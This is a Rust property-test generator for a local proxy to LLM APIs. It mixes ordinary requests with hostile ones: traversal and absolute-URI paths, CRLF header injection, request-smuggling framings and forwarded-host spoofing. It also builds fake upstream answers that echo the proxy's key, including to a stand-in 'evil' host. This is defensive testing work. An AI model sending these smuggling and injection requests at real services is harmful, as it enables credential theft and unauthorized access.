//! What the property is tried on: requests and answers put together from good and hostile parts.

use proptest::collection::vec;
use proptest::prelude::*;
use proptest::sample::select;
use tests::raw::forms;
use tests::raw::gzip;
use tests::raw::script::{Step, chunk};

use crate::requests::{BODY, OWN};

/// Stands where the attacker's own server goes.
pub const THERE: &str = "ATTACKER";

/// One generated request.
#[derive(Clone, Debug)]
pub struct Request {
    line: String,
    hosts: Vec<&'static str>,
    fields: Vec<String>,
    /// Framing lines, and what stands behind the head.
    body: Option<(String, String)>,
}

impl Request {
    /// As an app sends it, whose own server is at `there`.
    pub fn bytes(&self, there: &str) -> String {
        let mut text = format!("{}\r\n", self.line);
        for host in &self.hosts {
            text += &format!("Host: {host}\r\n");
        }
        text += &self.fields.concat();
        let (framing, body) = self.body.clone().unwrap_or_default();
        text += &format!("{framing}\r\n{body}");
        text.replace(THERE, there)
    }
}

/// Good parts stand beside hostile ones, so that most requests have one flaw, or none, and get far.
fn mostly<T: Clone + std::fmt::Debug + 'static>(
    good: Vec<T>,
    hostile: Vec<T>,
) -> impl Strategy<Value = T> {
    prop_oneof![12 => select(good), 1 => select(hostile)]
}

fn path() -> impl Strategy<Value = (bool, &'static str)> {
    mostly(
        vec![
            (false, "/openai/v1/models"),
            (false, "/openai/v1/%6Dodels"),
            (true, "/openai/v1/chat/completions"),
            (false, "/anthropic/v1/models"),
            (true, "/anthropic/v1/messages"),
            (false, "/gemini/v1beta/models"),
            (true, "/gemini/v1beta/models/gemini-x:generateContent"),
        ],
        vec![
            (false, "http://ATTACKER/openai/v1/models"),
            (false, "https://ATTACKER/openai/v1/models"),
            (false, "//ATTACKER/v1/models"),
            (false, "/openai//ATTACKER/v1/models"),
            (false, "@ATTACKER/v1/models"),
            (false, "/openai/v1/../organization/users"),
            (false, "/openai/v1/%2e%2e/organization/users"),
            (false, "/openai/v1/organization/users"),
            (false, "/openai/v1/%6frganization/users"),
            (false, "/gemini/v1alpha/auth_tokens"),
            (false, "/openai/v1%2fmodels"),
            (false, "*"),
        ],
    )
}

fn parameter() -> impl Strategy<Value = String> {
    select(vec![
        "alt=sse",
        "pageSize=3",
        "key=OWN",
        "%6Bey=OWN",
        "KEY=OWN",
        "k%65y=OWN",
        "api-key=OWN",
        "api%2Dkey=OWN",
        "access_token=OWN",
        "a=1;key=OWN",
        "keys=1",
        "monkey=banana",
        "a=%0d%0ax-api-key:1",
        "",
    ])
    .prop_map(|text| text.replace("OWN", OWN))
}

fn host() -> impl Strategy<Value = Vec<&'static str>> {
    mostly(
        vec![vec!["localhost"], vec!["127.0.0.1"], vec!["ATTACKER"]],
        vec![
            vec![],
            vec![""],
            vec!["localhost", "localhost"],
            vec!["localhost", "ATTACKER"],
            vec!["a:b@ATTACKER"],
            vec!["evil.example"],
        ],
    )
}

fn field() -> impl Strategy<Value = String> {
    let credential = (
        select(vec![
            "Authorization",
            "AUTHORIZATION",
            "x-api-key",
            "X-Api-Key",
            "api-key",
            "x-goog-api-key",
            "X-GOOG-API-KEY",
            "Cookie",
            "Proxy-Authorization",
            "x_api_key",
            "X_Goog_Api_Key",
            "http_authorization",
        ]),
        select(vec!["", " ", "\t"]),
        select(vec!["Bearer ", "Basic ", "", "k="]),
    )
        .prop_map(|(name, blank, scheme)| format!("{name}:{blank}{scheme}{OWN}\r\n"));
    let other = mostly(
        vec![
            "x-custom: 1\r\n",
            "X-Custom: a\r\n",
            "accept: */*\r\n",
            "accept-encoding: gzip, br\r\n",
            "user-agent: x\r\n",
            "Connection: keep-alive\r\n",
            "Connection: authorization, x-api-key\r\n",
            "Connection: x-goog-api-key, host\r\n",
            "Connection: x-custom\r\n",
            "TE: trailers\r\n",
            "HTTP2-Settings: AAMA\r\n",
            "X-Forwarded-Host: ATTACKER\r\n",
            "Forwarded: host=ATTACKER\r\n",
            "X-HTTP-Method-Override: DELETE\r\n",
            "OpenAI-Organization: org-1\r\n",
            "content_length: 3\r\n",
            "Expect: 100-continue\r\n",
        ],
        vec![
            "x : 1\r\n",
            "x: a\r\n folded: b\r\n",
            "x: a\nx-api-key: b\r\n",
            "x: a\rb\r\n",
            "x: a\0\r\n",
            "Upgrade: h2c\r\n",
            "Transfer-Encoding: gzip, chunked\r\n",
            "Transfer-Encoding: identity\r\n",
            "Content-Length: 0\r\n",
            "Origin: https://evil.example\r\n",
            ": x\r\n",
        ],
    )
    .prop_map(str::to_owned);
    prop_oneof![2 => credential, 3 => other]
}

/// Framing lines and the body behind them.
fn body() -> impl Strategy<Value = (String, String)> {
    let smuggled = "GET /openai/v1/organization/users HTTP/1.1\r\nHost: localhost\r\n\r\n";
    let text = prop_oneof![
        3 => Just(BODY.to_owned()),
        1 => Just(format!("{{\"model\":\"m\",\"messages\":[],\"metadata\":\"{}\"}}", smuggled.replace("\r\n", "\\r\\n"))),
        1 => Just(smuggled.to_owned()),
    ];
    (text, 1..40usize, 0..36usize).prop_map(|(text, size, kind)| {
        let n = text.len();
        let pieces: Vec<&str> = text
            .as_bytes()
            .chunks(size)
            .map(|piece| std::str::from_utf8(piece).expect("bodies are ASCII"))
            .collect();
        let chunks = |end: &str| {
            pieces
                .iter()
                .map(|piece| format!("{:x}{end}\r\n{piece}\r\n", piece.len()))
                .collect::<String>()
        };
        let chunked = "Transfer-Encoding: chunked\r\n".to_owned();
        match kind {
            0..9 | 24.. => (format!("Content-Length: {n}\r\n"), text),
            9..13 => (chunked, chunks("") + "0\r\n\r\n"),
            13 => (chunked, chunks(";a=b") + "0\r\n\r\n"),
            14 => (
                chunked,
                chunks("") + &format!("0\r\nauthorization: {OWN}\r\n\r\n"),
            ),
            15 => (chunked, chunks(";a\nb") + "0\r\n\r\n"),
            16 => (chunked, format!("-{}0\r\n\r\n", chunks(""))),
            17 => (chunked, chunks("") + "zz\r\n"),
            18 => (
                format!("Content-Length: {n}\r\n{chunked}"),
                chunks("") + "0\r\n\r\n",
            ),
            19 => (
                format!("Content-Length: {n}\r\nContent-Length: {}\r\n", n + 1),
                text,
            ),
            20 => (format!("Content-Length: +{n}\r\n"), text),
            21 => (format!("Content-Length: {}\r\n", n - 3), text),
            22 => (format!("Content-Length: {}\r\n", n + 7), text),
            23 => (
                "Transfer-Encoding: xchunked\r\n".to_owned(),
                chunks("") + "0\r\n\r\n",
            ),
        }
    })
}

/// A request of good and hostile parts.
pub fn request() -> impl Strategy<Value = Request> {
    let version = mostly(
        vec!["HTTP/1.1"],
        vec!["HTTP/1.0", "HTTP/1.2", "http/1.1", "HTTP/1.1 "],
    );
    (
        path(),
        vec(parameter(), 0..3),
        version,
        host(),
        vec(field(), 0..6),
        body(),
    )
        .prop_map(
            |((posts, path), parameters, version, hosts, mut fields, body)| {
                let query = if parameters.is_empty() {
                    String::new()
                } else {
                    format!("?{}", parameters.join("&"))
                };
                let method = if posts { "POST" } else { "GET" };
                if posts {
                    fields.push("Content-Type: application/json\r\n".to_owned());
                }
                Request {
                    line: format!("{method} {path}{query} {version}"),
                    hosts,
                    fields,
                    body: posts.then_some(body),
                }
            },
        )
}

/// One generated answer: the key in a dress, in a place, in pieces.
#[derive(Clone, Debug)]
pub struct Echo {
    form: usize,
    place: usize,
    status: u16,
    kind: &'static str,
    size: usize,
    around: String,
    packed: bool,
}

/// An answer that gives the key away.
pub fn echo() -> impl Strategy<Value = Echo> {
    (
        0..15usize,
        0..7usize,
        select(vec![200, 201, 302, 400, 401, 403, 404, 429, 500, 503, 529]),
        select(vec![
            "application/json",
            "text/event-stream",
            "text/plain",
            "application/octet-stream",
        ]),
        1..200usize,
        "[ -~]{0,60}",
        prop::bool::weighted(0.2),
    )
        .prop_map(|(form, place, status, kind, size, around, packed)| Echo {
            form,
            place,
            status,
            kind,
            size,
            around,
            packed,
        })
}

impl Echo {
    /// As an upstream sends it that was given `key`.
    pub fn steps(&self, key: &str) -> Vec<Step> {
        let dressed = forms::all(key)[self.form].1.clone();
        let (mut reason, mut fields, mut trailers, mut before) =
            ("x".to_owned(), String::new(), String::new(), String::new());
        let mut body = self.around.clone();
        match self.place {
            0..3 => body += &format!("{dressed}{}", self.around),
            3 => {
                fields = format!(
                    "x-debug: {dressed}\r\nlocation: https://evil/?{dressed}\r\nset-cookie: a={dressed}\r\n"
                )
            }
            4 => trailers = format!("x-debug: {dressed}\r\n"),
            5 => reason = dressed,
            _ => before = format!("HTTP/1.1 103 Early Hints\r\nlink: {dressed}\r\n\r\n"),
        }
        let mut body = body.into_bytes();
        if self.packed {
            body = gzip::stored(&body);
            fields += "content-encoding: gzip\r\n";
        }
        let head = format!(
            "{before}HTTP/1.1 {} {reason}\r\ncontent-type: {}\r\n{fields}transfer-encoding: chunked\r\n\r\n",
            self.status, self.kind
        );
        let mut steps = vec![Step::Send(head.into_bytes())];
        steps.extend(body.chunks(self.size).map(|piece| Step::Send(chunk(piece))));
        steps.push(Step::Send(format!("0\r\n{trailers}\r\n").into_bytes()));
        steps
    }
}
